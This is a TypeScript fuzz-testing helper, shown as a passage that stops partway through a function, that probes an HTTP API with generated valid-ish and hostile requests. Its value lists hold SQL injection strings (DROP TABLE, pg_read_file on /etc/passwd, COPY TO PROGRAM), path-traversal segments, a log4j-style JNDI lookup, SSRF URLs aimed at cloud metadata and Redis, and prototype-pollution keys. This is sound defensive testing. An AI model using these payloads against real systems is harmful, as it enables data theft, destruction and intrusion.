/**
 * Hostile-input fuzzing of the whole HTTP surface (issue 7, item 3), shared by
 * `test/reliability/endpointFuzz.test.ts` (CI-sized) and `scripts/fuzz-endpoints.ts`
 * (`npm run proof:fuzz`, larger runs with figures).
 *
 * The routes come from the OpenAPI document the server serves
 * (`/v2/openapi.json`), so a new endpoint is fuzzed without touching this
 * file, plus the interface spec's endpoint table (test/support/openapi.ts) as a floor. For
 * each route fast-check generates requests that are valid-ish (real tickers,
 * columns, ids, cursors and well-typed `q` expressions) and hostile (unicode,
 * NUL, very long strings, numbers as strings, arrays where scalars belong,
 * `__proto__`/`constructor` keys, SQL injection, `q` nested thousands of
 * parentheses deep, huge IN lists, forged and tampered cursors, encoded
 * slashes and dots in paths, deep and oversized JSON, wrong content types,
 * 64 KB+ headers) and checks every answer: no 5xx, every 4xx/5xx in the
 * spec's error envelope `{error: {code, message, request_id}}` (or the
 * documented delete-refusal variant), and an answer within a generous
 * timeout (a hang fails the case).
 */
import { randomBytes } from "node:crypto"
import { createServer, type Server } from "node:http"
import { type AddressInfo, connect } from "node:net"
import fc from "fast-check"
import pg from "pg"
import { Pool } from "undici"
import { render } from "../../../src/query/index.js"
import { BOOLEAN_COLS, expr, NUMERIC_COLS, STRING_COLS } from "../../query/generators.js"
import { routeShape, SPEC_ROUTES } from "../../support/openapi.js"
import { ADMIN_TOKEN, admin, type Reachable } from "../../support/server.js"

/**
 * The service's environment for a fuzz run: the embedded store, or, when
 * DATABASE_URL is set, a fresh schema of that PostgreSQL (dropped by
 * `cleanup`), and REDIS_URL when set.
 */
export const serviceEnv = async (): Promise<{ env: Record<string, string>; cleanup: () => Promise<void> }> => {
  const env: Record<string, string> = {
    REFRESH_INTERVAL: "1h",
    WEBHOOK_ALLOW_INSECURE_TARGETS: "true",
    HISTORY_DAYS: "60"
  }
  if (process.env.REDIS_URL) env.REDIS_URL = process.env.REDIS_URL
  const url = process.env.DATABASE_URL
  if (!url) return { env, cleanup: async () => {} }
  const schema = `fuzz_${randomBytes(6).toString("hex")}`
  const run = async (statement: string) => {
    const client = new pg.Client({ connectionString: url })
    await client.connect()
    try {
      await client.query(statement)
    } finally {
      await client.end()
    }
  }
  await run(`CREATE SCHEMA ${schema}`)
  const withSchema = new URL(url)
  withSchema.searchParams.set("options", `-c search_path=${schema}`)
  env.DATABASE_URL = withSchema.toString()
  return { env, cleanup: () => run(`DROP SCHEMA IF EXISTS ${schema} CASCADE`) }
}

// ---------------------------------------------------------------------------------------------------------------
// The target: accounts on several plans and a few resources of each kind
// ---------------------------------------------------------------------------------------------------------------

export type KeyName = "enterprise" | "scale" | "pro" | "hobby" | "free" | "none"

export interface Target {
  readonly url: string
  readonly keys: Readonly<Record<KeyName, string>>
  /** ids of existing resources, by kind (some owned by another account than the enterprise key's) */
  readonly ids: {
    readonly universes: ReadonlyArray<string>
    readonly signals: ReadonlyArray<string>
    readonly rules: ReadonlyArray<string>
    readonly webhooks: ReadonlyArray<string>
    readonly deliveries: ReadonlyArray<string>
    readonly devices: ReadonlyArray<string>
    readonly notifications: ReadonlyArray<string>
    /** a sacrificial account the admin routes may patch and whose key they may revoke */
    readonly accounts: ReadonlyArray<string>
    readonly keyIds: ReadonlyArray<string>
  }
  /** genuine cursors issued by list endpoints, to replay and tamper with */
  readonly cursors: ReadonlyArray<string>
  readonly receiverUrl: string
  readonly close: () => Promise<void>
}

const json = async (res: Response) => {
  const text = await res.text()
  try {
    return JSON.parse(text)
  } catch {
    return text
  }
}

/** Sets up the accounts and resources the fuzz uses; the enterprise key gets a limit the fuzz cannot reach. */
export const prepareTarget = async (server: Reachable): Promise<Target> => {
  const receiver: Server = createServer((req, res) => {
    req.resume()
    req.on("end", () => res.writeHead(200).end())
  })
  await new Promise<void>((r) => receiver.listen(0, "127.0.0.1", r))
  const receiverUrl = `http://127.0.0.1:${(receiver.address() as AddressInfo).port}/hook`

  const account = async (plan: string) => {
    const created = await admin(server, "POST", "/admin/accounts", { plan })
    if (created.status !== 201) throw new Error(`create ${plan} account: ${created.status}`)
    return created.body as { account_id: string; key_id: string; api_key: string }
  }
  const enterprise = await account("enterprise")
  const raised = await admin(server, "PATCH", `/admin/accounts/${enterprise.account_id}`, {
    plan: "enterprise",
    rate_limit_per_minute: 100_000_000
  })
  if (raised.status !== 200) throw new Error(`raise the enterprise limit: ${raised.status}`)
  const [scale, pro, hobby, free, none, sacrificial] = await Promise.all(
    ["scale", "pro", "hobby", "free", "none", "hobby"].map(account)
  )

  const call = async (key: string, method: string, path: string, body?: unknown) => {
    const res = await fetch(`${server.url}${path}`, {
      method,
      headers: {
        authorization: `Bearer ${key}`,
        ...(body === undefined ? {} : { "content-type": "application/json" })
      },
      ...(body === undefined ? {} : { body: JSON.stringify(body) })
    })
    const parsed = await json(res)
    if (res.status >= 300) throw new Error(`${method} ${path}: ${res.status} ${JSON.stringify(parsed)}`)
    return parsed
  }
  const E = enterprise.api_key
  await call(E, "POST", "/v2/universes", { id: "fz_list", name: "Fuzz list", tickers: ["AAPL", "MSFT", "SPY"] })
  await call(scale.api_key, "POST", "/v2/universes", { id: "fz_other", name: "Other's", tickers: ["AAPL"] })
  await call(E, "POST", "/v2/signals", { name: "fz_hot", expr: "relative_volume > 2" })
  await call(E, "POST", "/v2/signals", { name: "fz_warm", expr: "fz_hot AND price > 5", description: "warm" })
  const rule = await call(E, "POST", "/v2/rules", { name: "fuzz rule", q: "price > 5", order: "price" })
  const otherRule = await call(scale.api_key, "POST", "/v2/rules", { name: "other", q: "price > 1" })
  const hook = await call(E, "POST", "/v2/tickers/aapl/subscribe", { condition: "price > 0", target_url: receiverUrl })
  const inbox = await call(E, "POST", "/v2/signals/golden_cross/subscribe", { universe: "top_100" })
  const otherHook = await call(pro.api_key, "POST", "/v2/tickers/msft/subscribe", {
    condition: "price > 0",
    target_url: receiverUrl
  })
  const device = await call(E, "POST", "/v2/devices/register", { platform: "android", token: "fuzz-device-token-1" })
  const test = await call(E, "POST", `/v2/webhooks/${hook.id}/test`)
  const notifications = await call(E, "GET", "/v2/notifications")

  const cursors: Array<string> = []
  const collect = (doc: any) => {
    if (typeof doc?.next_cursor === "string") cursors.push(doc.next_cursor)
  }
  collect(await call(E, "GET", "/v2/tickers?limit=2"))
  collect(await call(E, "GET", "/v2/tickers?limit=3&search=a"))
  collect(await call(E, "POST", "/v2/scan", { q: "price > 1", limit: 2 }))
  collect(await call(E, "POST", "/v2/scan", { q: "price > 1", limit: 2, order: "price", dir: "asc" }))
  collect(await call(E, "GET", "/v2/signals/above_sma_50?limit=2"))
  collect(await call(E, "GET", "/v2/signals/price?condition=%3E1&limit=2"))
  collect(await call(E, "GET", "/v2/signals/price/AAPL/history/1d?limit=3"))
  collect(await call(E, "GET", "/v2/universes/system"))
  if (cursors.length === 0) throw new Error("no cursor issued by the list endpoints")

  // the signal stats and events answer 503 until the flag history is built (lazily, on the first such
  // request): build it now, so the fuzz sees the endpoints themselves (and the build does not stall it)
  const deadline = Date.now() + 180_000
  for (;;) {
    const res = await fetch(`${server.url}/v2/signals/above_sma_50/stats`, {
      headers: { authorization: `Bearer ${E}` }
    })
    await res.arrayBuffer()
    if (res.status === 200) break
    if (res.status !== 503 || Date.now() > deadline) throw new Error(`signal stats did not become ready: ${res.status}`)
    await new Promise((r) => setTimeout(r, 500))
  }

  return {
    url: server.url,
    keys: {
      enterprise: E,
      scale: scale.api_key,
      pro: pro.api_key,
      hobby: hobby.api_key,
      free: free.api_key,
      none: none.api_key
    },
    ids: {
      universes: ["fz_list", "fz_other", "top_10", "top_100", "system"],
      signals: ["fz_hot", "fz_warm"],
      rules: [rule.id, otherRule.id],
      webhooks: [hook.id, inbox.id, otherHook.id],
      deliveries: [test.delivery.id],
      devices: [device.device_id],
      notifications: (notifications.notifications ?? []).map((n: any) => n.id).slice(0, 3),
      accounts: [sacrificial.account_id],
      keyIds: [sacrificial.key_id]
    },
    cursors,
    receiverUrl,
    close: () => new Promise<void>((r) => receiver.close(() => r()))
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Routes: the served OpenAPI document, with the spec's table as a floor
// ---------------------------------------------------------------------------------------------------------------

export interface Param {
  readonly in: "path" | "query"
  readonly name: string
}

export interface Route {
  readonly method: string
  /** OpenAPI template, e.g. `/v2/tickers/{ticker}` */
  readonly path: string
  readonly params: ReadonlyArray<Param>
  /** JSON body schema (an OpenAPI schema object), when the route takes one */
  readonly body: any
  /** some other body than JSON (the admin CSV import) */
  readonly rawBody: boolean
  readonly security: "bearer" | "admin" | "none"
}

const templateParams = (path: string): Array<Param> =>
  [...path.matchAll(/\{([^}]+)\}/g)].map((m) => ({ in: "path" as const, name: m[1]! }))

/** Every route of the served OpenAPI document, plus any spec route it lacks (fuzzed from its path alone). */
export const loadRoutes = async (url: string): Promise<{ routes: Array<Route>; missingFromOpenApi: Array<string> }> => {
  const doc = (await (await fetch(`${url}/v2/openapi.json`)).json()) as any
  const routes: Array<Route> = []
  for (const [path, ops] of Object.entries<any>(doc.paths)) {
    for (const [method, op] of Object.entries<any>(ops)) {
      const params: Array<Param> = (op.parameters ?? [])
        .filter((p: any) => p.in === "path" || p.in === "query")
        .map((p: any) => ({ in: p.in, name: p.name }))
      for (const p of templateParams(path))
        if (!params.some((q) => q.in === "path" && q.name === p.name)) params.push(p)
      const content = op.requestBody?.content ?? {}
      const security = Array.isArray(op.security) && op.security.length > 0 ? Object.keys(op.security[0])[0] : "none"
      routes.push({
        method: method.toUpperCase(),
        path,
        params,
        body: content["application/json"]?.schema,
        rawBody: path === "/admin/import",
        security: security === "adminToken" ? "admin" : security === "bearer" ? "bearer" : "none"
      })
    }
  }
  const known = new Set(routes.map((r) => routeShape(`${r.method} ${r.path}`)))
  const missingFromOpenApi = SPEC_ROUTES.filter((r) => !known.has(routeShape(r)))
  for (const r of missingFromOpenApi) {
    const [method, path] = r.split(" ") as [string, string]
    routes.push({ method, path, params: templateParams(path), body: undefined, rawBody: false, security: "bearer" })
  }
  return { routes, missingFromOpenApi }
}

// ---------------------------------------------------------------------------------------------------------------
// Values
// ---------------------------------------------------------------------------------------------------------------

const SQL_INJECTION = [
  "' OR '1'='1",
  "' OR 1=1 --",
  "1; DROP TABLE accounts; --",
  "'; DELETE FROM webhooks; --",
  "price > 1; DROP TABLE api_keys",
  "price > 1 -- comment",
  "price > 1 /* c */",
  "1) OR (1=1",
  "price > (SELECT 1)",
  "pg_sleep(10) > 0",
  "price > 1 UNION SELECT * FROM api_keys",
  "EXISTS (SELECT 1)",
  "price > 1 AND pg_read_file('/etc/passwd') IS NOT NULL",
  "$1",
  "$$ x $$",
  "E'\\x00'",
  "U&'\\0000'",
  "ticker = 'a''b'",
  "name LIKE '\\'",
  "\\",
  "price::text",
  "current_user = 'postgres'",
  "ticker IN (SELECT ticker FROM accounts)",
  "`id`",
  '"price" > 1',
  "price > 1 INTO OUTFILE '/tmp/x'",
  "COPY accounts TO PROGRAM 'id'"
]

const WEIRD = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "%00",
  "\r\n",
  "\t",
  "'",
  '"',
  "\\",
  "%",
  "_",
  "*",
  "..",
  "../../etc/passwd",
  "%2e%2e%2f",
  "<script>alert(1)</script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style injection attempt, literally
  "${jndi:ldap://x/a}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "__defineGetter__",
  "NaN",
  "Infinity",
  "-Infinity",
  "-0",
  "1e309",
  "-1e309",
  "0x10",
  "1_000",
  " 5",
  "5 ",
  "9007199254740993",
  "99999999999999999999999999999",
  "true",
  "false",
  "null",
  "undefined",
  "[]",
  "{}",
  "[object Object]",
  "😀",
  "\u202e\u202d",
  "\ud800",
  "\udfff\ud800",
  "é",
  "ＡＡＰＬ",
  "İ",
  "ß",
  "ǅ",
  "\ufeff",
  "\u200b",
  "ﬀ",
  "𝔸𝔸ℙ𝕃",
  "a".repeat(81),
  "a".repeat(501),
  "x".repeat(4001),
  "é".repeat(2001),
  "😀".repeat(1500)
]

/** Strings of every shape: printable, binary, unicode, very long, weird constants and injection attempts. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...WEIRD) },
  { weight: 3, arbitrary: fc.constantFrom(...SQL_INJECTION) },
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 30 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(
        fc.constantFrom("a", "é", "😀", "%", "(", "'", "\u0000", ","),
        fc.oneof(
          { weight: 8, arbitrary: fc.integer({ min: 1_000, max: 5_000 }) },
          { weight: 2, arbitrary: fc.integer({ min: 5_000, max: 20_000 }) },
          { weight: 1, arbitrary: fc.integer({ min: 20_000, max: 120_000 }) }
        )
      )
      .map(([c, n]) => c.repeat(n))
  },
  { weight: 1, arbitrary: fc.double().map(String) },
  { weight: 1, arbitrary: fc.bigInt().map(String) }
)

const TICKERS = ["AAPL", "aapl", "MSFT", "SPY", "QQQ", "BTC", "ETH", "btc", "BRK.B", "brk-b", "BRK/B", "NVDA", "TSLA"]
const UNKNOWN_TICKERS = ["ZZZZZZ", "AAPL2", "A", "Q", "X".repeat(20), "$AAPL", "AAPL.US", "AAPL:NASDAQ"]
export const ticker: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...TICKERS) },
  { weight: 2, arbitrary: fc.constantFrom(...UNKNOWN_TICKERS) },
  { weight: 1, arbitrary: fc.stringMatching(/^[A-Z]{1,6}$/) },
  { weight: 2, arbitrary: hostileString }
)

const COLUMNS = [
  ...NUMERIC_COLS,
  ...STRING_COLS,
  ...BOOLEAN_COLS,
  "relative_volume",
  "gap_pct",
  "golden_cross",
  "above_sma_50",
  "high_52w",
  "news_volume",
  "macd_line",
  "fz_hot",
  "fz_warm"
]
const column: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...COLUMNS) },
  {
    weight: 1,
    arbitrary: fc.constantFrom("PRICE", "Price", "nope", "price desc", "price,ticker", "1", "ticker.price")
  },
  { weight: 2, arbitrary: hostileString }
)

/** Well-typed expressions over real columns, as text. */
const validQ: fc.Arbitrary<string> = fc
  .oneof(expr("boolean", 1), expr("boolean", 2), expr("boolean", 3))
  .map((e) => render(e))

const LIKE_BOMBS = [
  `name LIKE '${"%a".repeat(40)}%b'`,
  `name ILIKE '${"%_".repeat(60)}'`,
  `name LIKE '${"_".repeat(2000)}'`,
  `name NOT LIKE '${"%%".repeat(900)}x'`
]

/** `q` (and `condition`, `expr`): valid, mutated, injected, nested deeply, huge IN lists, over-long. */
export const qValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: validQ },
  {
    weight: 3,
    arbitrary: fc
      .tuple(validQ, fc.nat(), fc.constantFrom("(", ")", "'", ";", "--", "/*", "\u0000", "AND", "OR NOT", ".", ",", ""))
      .map(([q, at, ins]) => {
        const i = q.length === 0 ? 0 : at % q.length
        return q.slice(0, i) + ins + q.slice(i + 1)
      })
  },
  { weight: 3, arbitrary: fc.constantFrom(...SQL_INJECTION) },
  { weight: 1, arbitrary: fc.constantFrom(...LIKE_BOMBS) },
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        fc.constantFrom(10, 100, 500, 1_000, 1_999, 2_000, 5_000, 10_000, 50_000),
        fc.constantFrom("(", "NOT ", "-")
      )
      .map(([depth, open]) =>
        open === "(" ? `${"(".repeat(depth)}price > 1${")".repeat(depth)}` : `${open.repeat(depth)}price > 1`
      )
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(10, 100, 300, 600, 1_000, 20_000)
      .map((n) => `ticker IN (${Array.from({ length: n }, (_, i) => `'T${i}'`).join(",")})`)
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(100, 400, 1_000)
      .map((n) => Array.from({ length: n }, (_, i) => `price > ${i}`).join(n % 200 === 0 ? " OR " : " AND "))
  },
  {
    weight: 1,
    arbitrary: fc.constantFrom(">", ">=", "=", "!=", "<", "<=").chain((op) => numberish.map((v) => op + v))
  },
  { weight: 2, arbitrary: hostileString }
)

const numberish: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom("0", "1", "-1", "50", "100", "101", "200", "1000", "1001", "1.5", "1e2", "1e400", "-0", "NaN"),
  fc.constantFrom("Infinity", "0x10", "", " ", "abc", "99999999999999999999", "9007199254740993", "1,2", "+5"),
  fc.integer().map(String),
  fc.double().map(String)
)

const dates: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    "2026-01-02",
    "2026-05-22",
    "2025-12-31",
    "2024-02-29",
    "2025-02-29",
    "2026-02-30",
    "2026-13-01",
    "2026-1-1",
    "1990-01-01",
    "1989-12-31",
    "2100-12-31",
    "2101-01-01",
    "0000-01-01",
    "9999-12-31",
    "-271821-04-20",
    "+275760-09-13",
    "2026-01-02T15:04:05Z",
    "2026-01-02T25:61:61Z",
    "2026-01-02T15:04:05.123456789+05:30",
    "2026-01-02T15:04:05+9999",
    "now",
    "today",
    "1767225600",
    "2026-01-02 ",
    "2026‐01‐02"
  ),
  fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
  fc.date({ noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10))
)

/** Cursors: genuine ones replayed, genuine ones tampered (flipped, truncated, extended), forged and random. */
const cursorValue = (target: Target): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 2, arbitrary: fc.constantFrom(...target.cursors) },
    {
      weight: 4,
      arbitrary: fc
        .tuple(
          fc.constantFrom(...target.cursors),
          fc.nat(),
          fc.constantFrom("A", "_", "-", "z", "0", "", "=", "%", "AA")
        )
        .map(([c, at, ch]) => {
          const i = at % c.length
          return c.slice(0, i) + ch + c.slice(i + 1)
        })
    },
    { weight: 1, arbitrary: fc.constantFrom(...target.cursors).map((c) => c.slice(0, c.length >> 1)) },
    { weight: 1, arbitrary: fc.constantFrom(...target.cursors).map((c) => c + c) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.jsonValue({ maxDepth: 3 }), fc.uint8Array({ minLength: 16, maxLength: 16 }))
        .map(([v, tag]) => Buffer.concat([Buffer.from(JSON.stringify({ b: "x", p: v })), tag]).toString("base64url"))
    },
    { weight: 2, arbitrary: fc.base64String({ maxLength: 200 }) },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 4_000 }).map((b) => Buffer.from(b).toString("base64url")) },
    { weight: 1, arbitrary: fc.constantFrom("A".repeat(4_096), "A".repeat(4_097), "A".repeat(100_000)) },
    { weight: 2, arbitrary: hostileString }
  )

const commaList = (item: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 4, arbitrary: fc.array(item, { maxLength: 8 }).map((a) => a.join(",")) },
    {
      weight: 1,
      arbitrary: fc
        .constantFrom(50, 51, 1_000, 20_000)
        // the item cut to 64 characters: 20,000 copies of an already huge item exceeded V8's string limit
        .chain((n) => item.map((t) => Array.from({ length: n }, () => t.slice(0, 64)).join(",")))
    },
    { weight: 1, arbitrary: fc.constantFrom(",", ",,,,", " , ", ",".repeat(10_000)) }
  )

const urlValue = (target: Target): fc.Arbitrary<string> =>
  fc.oneof(
    { weight: 3, arbitrary: fc.constant(target.receiverUrl) },
    {
      weight: 3,
      arbitrary: fc.constantFrom(
        "https://example.com/hook",
        "http://127.0.0.1:1/",
        "http://[::1]:9/",
        "http://169.254.169.254/latest/meta-data",
        "http://0.0.0.0/",
        "https://user:pass@example.com/",
        "https://exa mple.com/",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "ftp://example.com/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "https://",
        "https://example.com:99999/",
        "https://xn--80ak6aa92e.com/",
        `https://example.com/${"a".repeat(5_000)}`,
        "//example.com",
        "https://hooks.chat.example/services/T0/B0/XXXX"
      )
    },
    { weight: 1, arbitrary: fc.webUrl() },
    { weight: 2, arbitrary: hostileString }
  )

/** A value for a parameter or body field, chosen by its name (domain values mixed with hostile strings). */
export const stringFor = (name: string, target: Target, route: string): fc.Arbitrary<string> => {
  const mix = (domain: fc.Arbitrary<string>, weight = 4) =>
    fc.oneof({ weight, arbitrary: domain }, { weight: 1, arbitrary: hostileString })
  switch (name) {
    case "q":
    case "expr":
    case "condition":
      return route.includes("/v2/signals/{signal}") && !route.endsWith("/subscribe") && name === "condition"
        ? fc.oneof(
            fc
              .constantFrom(">", ">=", "=", "!=", "<", "<=", "<>", "==", "")
              .chain((op) => numberish.map((v) => op + v)),
            qValue
          )
        : qValue
    case "order":
      return mix(column)
    case "dir":
      return mix(fc.constantFrom("asc", "desc", "ASC", "Desc", "", "up", "asc;"))
    case "fields":
      return mix(commaList(column))
    case "cursor":
      return cursorValue(target)
    case "limit":
    case "min_market_cap":
    case "min_relevance":
      return numberish
    case "asof":
    case "from":
    case "to":
      return mix(dates)
    case "universe":
      return mix(fc.constantFrom(...target.ids.universes, "TOP_10", "top_1000", "all"))
    case "tickers":
      return mix(commaList(ticker))
    case "ticker":
    case "search":
      return ticker
    case "signal":
    case "name":
      return route.includes("{signal}") || route.includes("{name}") || route === "POST /v2/signals"
        ? mix(
            fc.oneof(
              fc.constantFrom(...target.ids.signals, ...COLUMNS, "ticker", "date", "_not_found", "nope"),
              fc.stringMatching(/^[a-z][a-z0-9_]{0,70}$/)
            )
          )
        : mix(fc.string({ maxLength: 90 }))
    case "interval":
      return mix(fc.constantFrom("1m", "1h", "1d", "1w", "1M", "1y", "5m", "1D", "0d", ""))
    case "kind":
      return mix(fc.constantFrom("builtin", "custom", "expression", "BUILTIN", ""))
    case "status":
      return mix(fc.constantFrom("pending", "delivered", "permanent_failure", "failed", ""))
    case "unread":
    case "force":
      return mix(fc.constantFrom("true", "false", "1", "0", "yes", "TRUE", ""))
    case "asset_type":
      return mix(fc.constantFrom("equity", "crypto", "CS", "ETF", "cs", "bond"))
    case "exchange":
      return mix(fc.constantFrom("NASDAQ", "NYSE", "NYSEARCA", "NYSEAMERICAN", "CBOEBZX", "OTC", "CRYPTO", "LSE"))
    case "sector":
      return mix(fc.constantFrom("Technology", "technology", "Financial Services", "Energy"))
    case "id":
      return mix(
        fc.oneof(
          route.includes("/universes")
            ? fc.constantFrom(...target.ids.universes)
            : route.includes("/rules")
              ? fc.constantFrom(...target.ids.rules)
              : fc.constantFrom(...target.ids.webhooks),
          fc.constantFrom(...target.ids.webhooks, ...target.ids.rules, ...target.ids.universes),
          fc.stringMatching(/^(wh|rule|dlv|dev|ntf|u)_[A-Za-z0-9_-]{0,30}$/),
          fc.stringMatching(/^[a-z][a-z0-9_]{0,70}$/)
        )
      )
    case "rule":
    case "rule_id":
      return mix(fc.constantFrom(...target.ids.rules, "rule_nope"))
    case "delivery_id":
      return mix(fc.oneof(fc.constantFrom(...target.ids.deliveries), fc.stringMatching(/^dlv_[A-Za-z0-9_-]{0,30}$/)))
    case "device_id":
      return mix(fc.constantFrom(...target.ids.devices, "dev_nope"))
    case "account_id":
      return mix(fc.oneof(fc.constantFrom(...target.ids.accounts), fc.uuid(), fc.string()))
    case "key_id":
      return mix(fc.oneof(fc.constantFrom(...target.ids.keyIds), fc.uuid(), fc.string()))
    case "target_url":
    case "chat_url":
      return urlValue(target)
    case "channel":
      return mix(fc.constantFrom("webhook", "chat", "in_app", "mobile_push", "slack", "email", "WEBHOOK"))
    case "cadence":
      return mix(fc.constantFrom("realtime", "hourly", "exchange_open", "1m", "5m", "15m", "daily"))
    case "platform":
      return mix(fc.constantFrom("ios", "android", "web", "IOS", "windows"))
    case "token":
      return mix(fc.stringMatching(/^[A-Za-z0-9:_-]{0,100}$/))
    case "plan":
      return mix(fc.constantFrom("none", "free", "hobby", "pro", "scale", "enterprise", "gold"))
    case "mode":
      return mix(fc.constantFrom("test", "live", "prod"))
    case "description":
      return mix(fc.oneof(fc.string({ maxLength: 60 }), fc.constantFrom("d".repeat(500), "d".repeat(501))))
    default:
      return fc.oneof(fc.string({ maxLength: 30 }), hostileString)
  }
}

/** Any JSON value, including awkward numbers, `__proto__` keys and moderately deep nesting. */
const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  {
    weight: 1,
    arbitrary: fc.constantFrom<unknown>(
      1e308,
      -1e308,
      5e-324,
      -0,
      2 ** 53 + 1,
      [],
      {},
      [[[[[]]]]],
      Object.fromEntries([["__proto__", { fz_polluted: true }]]),
      { constructor: { prototype: { fz_polluted: true } } }
    )
  },
  { weight: 1, arbitrary: fc.constantFrom(50, 200, 900).map((n) => deepArray(n)) }
)

const deepArray = (n: number): unknown => {
  let v: unknown = 1
  for (let i = 0; i < n; i++) v = [v]
  return v
}

/** A body field from its schema: the named domain values, arrays of them, numbers, nulls. */
const fromSchema = (name: string, schema: any, target: Target, route: string): fc.Arbitrary<unknown> => {
  if (schema === undefined || schema === null) return anyJson
  if (Array.isArray(schema.anyOf)) {
    return fc.oneof(...schema.anyOf.map((s: any) => fromSchema(name, s, target, route)))
  }
  if (Array.isArray(schema.enum)) return fc.oneof(fc.constantFrom(...schema.enum), stringFor(name, target, route))
  if (schema.$ref !== undefined) return fc.oneof(fc.integer({ min: -10, max: 2_000_000_000 }), anyJson)
  switch (schema.type) {
    case "string":
      return stringFor(name, target, route)
    case "number":
    case "integer":
      return fc.oneof(
        fc.constantFrom(0, 1, -1, 50, 100, 101, 200, 1000, 1001, 1.5, 1e21, -1e21, 2 ** 53 + 1),
        fc.double({ noNaN: true, noDefaultInfinity: true }),
        fc.integer()
      )
    case "boolean":
      return fc.boolean()
    case "null":
      return fc.constant(null)
    case "array": {
      const item = name === "tickers" || name === "add" || name === "remove" ? ticker : undefined
      const itemArb = item ?? fromSchema(name, schema.items, target, route)
      return fc.oneof(
        { weight: 6, arbitrary: fc.array(itemArb, { maxLength: 8 }) },
        {
          weight: 1,
          arbitrary: fc
            .tuple(
              fc.constantFrom(1_000, 1_001, 10_001, 100_000),
              fc.constantFrom<unknown>("AAPL", "zzzz", "", 1, null, [])
            )
            .map(([n, v]) => Array.from({ length: n }, () => v))
        },
        {
          weight: 1,
          arbitrary: fc.constantFrom(1_000, 5_000).map((n) => Array.from({ length: n }, (_, i) => `T${i}`))
        }
      )
    }
    case "object":
      return bodyObject(schema, target, route)
    default:
      return anyJson
  }
}

const POLLUTION_KEYS = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineSetter__"]

/** A JSON object for a body schema: required fields usually present, wrong types and extra keys sometimes. */
export const bodyObject = (schema: any, target: Target, route: string): fc.Arbitrary<Record<string, unknown>> => {
  const props = Object.entries<any>(schema.properties ?? {})
  const required = new Set<string>(schema.required ?? [])
  const field = ([name, s]: [string, any]) =>
    fc.oneof(
      { weight: 12, arbitrary: fromSchema(name, s, target, route) },
      { weight: 2, arbitrary: anyJson },
      { weight: 1, arbitrary: fc.constant(undefined) }
    )
  const entries = props.map(([name, s]) =>
    fc
      .tuple(
        fc.constant(name),
        field([name, s]),
        fc.integer({ min: 0, max: 9 }).map((d) => (required.has(name) ? d > 0 : d > 4))
      )
      .map(([n, v, present]) => (present && v !== undefined ? ([[n, v]] as Array<[string, unknown]>) : []))
  )
  const extras = fc.oneof(
    { weight: 8, arbitrary: fc.constant([] as Array<[string, unknown]>) },
    {
      weight: 2,
      arbitrary: fc.array(
        fc.tuple(
          fc.oneof(fc.constantFrom(...POLLUTION_KEYS), fc.string({ maxLength: 12 })),
          fc.oneof(anyJson, fc.constant({ fz_polluted: true }))
        ),
        { minLength: 1, maxLength: 3 }
      )
    }
  )
  return fc
    .tuple(fc.tuple(...entries), extras)
    .map(([fields, extra]) => Object.fromEntries([...fields.flat(), ...extra]) as Record<string, unknown>)
}

// ---------------------------------------------------------------------------------------------------------------
// Requests
// ---------------------------------------------------------------------------------------------------------------

export interface FuzzCase {
  /** the route the case was generated for (`METHOD /template`), or `random` */
  readonly route: string
  readonly method: string
  /** the raw request target, already percent-encoded (or deliberately not) */
  readonly path: string
  readonly headers: Readonly<Record<string, string>>
  readonly body?: string | Uint8Array | { readonly stream: number }
}

/** Percent-encodes the UTF-8 of a string (lone surrogates become U+FFFD), as `encodeURIComponent` does. */
export const pct = (text: string): string =>
  encodeURIComponent(text.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd"))

/** Path segments the server must not be confused by: traversal, encoded slashes, broken escapes, raw high bytes. */
const rawSegment = fc.constantFrom(
  "..",
  ".",
  "%2e%2e",
  "%2E",
  "..%2F..%2Fadmin",
  "%2F",
  "a%2Fb",
  "AAPL%2F..%2F..%2Fv2%2Faccount",
  "%5C..%5C",
  "%00",
  "AAPL%00",
  "%ZZ",
  "%",
  "%%",
  "%u0041",
  "%C0%AE%C0%AE",
  "%FF%FE",
  "\u00ff\u00e9",
  "AAPL%20",
  "+",
  "AAPL;x=1",
  "AAPL.json",
  "",
  "~",
  ":ticker",
  "{ticker}"
)

const pathValue = (name: string, target: Target, route: string): fc.Arbitrary<string> =>
  fc.oneof({ weight: 6, arbitrary: stringFor(name, target, route).map(pct) }, { weight: 1, arbitrary: rawSegment })

const queryString = (route: Route, target: Target, label: string): fc.Arbitrary<string> => {
  const declared = route.params.filter((p) => p.in === "query")
  const pairs = declared.map((p) =>
    fc.option(
      fc.tuple(fc.constant(p.name), stringFor(p.name, target, label)).map(([k, v]) => `${pct(k)}=${pct(v)}`),
      { freq: 2 }
    )
  )
